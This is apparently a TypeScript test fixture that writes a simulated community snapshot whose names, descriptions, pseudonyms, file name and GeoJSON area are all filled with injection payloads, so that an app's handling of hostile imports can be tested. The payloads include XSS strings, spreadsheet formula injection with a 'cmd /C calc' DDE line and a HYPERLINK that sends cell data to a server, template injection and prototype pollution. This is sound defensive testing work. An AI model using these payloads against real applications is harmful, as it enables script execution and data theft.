import { createWriteStream } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { writeSnapshot } from '#engine/imports/snapshot-writer.ts';
import { sha256 } from '#engine/market/sha256.ts';
import type { ChangePage } from '#shared/domain/change-page.ts';
import { simulateCommunity } from '#shared/simulator/simulate-community.ts';

/** What a text from outside could carry: each would set `window.ran`, ask the server, run in a sheet, or hide what is around it. */
const payloads = [
  '<img src=x onerror="window.ran=1">',
  '<script>window.ran=2</script>',
  '"><svg onload=window.ran=3>',
  "'-window.ran=4-'",
  '</script><script>window.ran=5</script>',
  '<style>body{display:none}</style>',
  '<a href=javascript:window.ran=6>go</a>',
  '=HYPERLINK("SERVER/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1)',
  '\u202egnp.exe',
  '{{constructor.constructor("window.ran=7")()}}',
  '$t(shell:title) {{name}}',
  '%s%n%x <b style="background:url(SERVER/b)">',
  '<img src="SERVER/c"><link rel=stylesheet href="SERVER/d">',
] as const;

let server = '';
const named = (payload: string): string => payload.replaceAll('SERVER', server);

/** Short enough to be found on a page. */
export const HOSTILE_NAME = '<img src=x onerror="window.ran=8"> & </title><script>window.ran=9</script>';

/** All attacks in one text of this many characters, some of them again. */
export function hostileText(characters: number): string {
  return payloads.map(named).join(' ').repeat(20).slice(0, characters);
}

/**
 * Writes a snapshot of a simulated community whose every text is hostile, and an area (`area.geojson`) that is.
 *
 * @param address of the server that the attacks ask
 * @returns the snapshot's file, whose name is an attack too, and the pseudonym of a member
 */
export async function writeHostileCommunity(
  folder: string,
  address: string,
): Promise<{ file: string; pseudonym: string }> {
  server = address;
  const simulation = { seed: 4, members: 16, days: 3, until: Date.UTC(2026, 9, 25, 11), violations: true };
  const pages = [...simulateCommunity(simulation, sha256)].map(hostile);
  const file = path.join(folder, '<img src=x onerror=window.ran=10>.commonwatt');
  await writeSnapshot(pages, createWriteStream(file), { compression: 'none' });
  await writeFile(path.join(folder, 'area.geojson'), area());
  return { file, pseudonym: pseudonymOf(0) };
}

/** At most 64 characters, another one for each member. */
function pseudonymOf(index: number): string {
  const payload = named(payloads[index % payloads.length]);
  // What a sheet would take for a formula has to stand first.
  return (/^[=+\-@]/.test(payload) ? `${payload} ${index}` : `${index} ${payload}`).slice(0, 64);
}

function hostile(page: ChangePage): ChangePage {
  const members = page.members?.map((member, index) => ({ ...member, anonymizedId: pseudonymOf(index) }));
  const community = page.community && {
    ...page.community,
    name: HOSTILE_NAME,
    description: hostileText(9_000),
    district: hostileText(190),
    boundary: area(),
  };
  return { ...page, ...(members && { members }), ...(community && { community }) };
}

/** Markup in its properties, and as big as the earth. */
function area(): string {
  return `{"type":"FeatureCollection","features":[{"type":"Feature",
    "properties":{"name":${JSON.stringify(payloads[0])},"style":"url(${server}/e)","__proto__":{"ran":1}},
    "geometry":{"type":"Polygon","coordinates":[[[-180,-90],[180,-90],[180,90],[-180,-90]]]}}]}`;
}
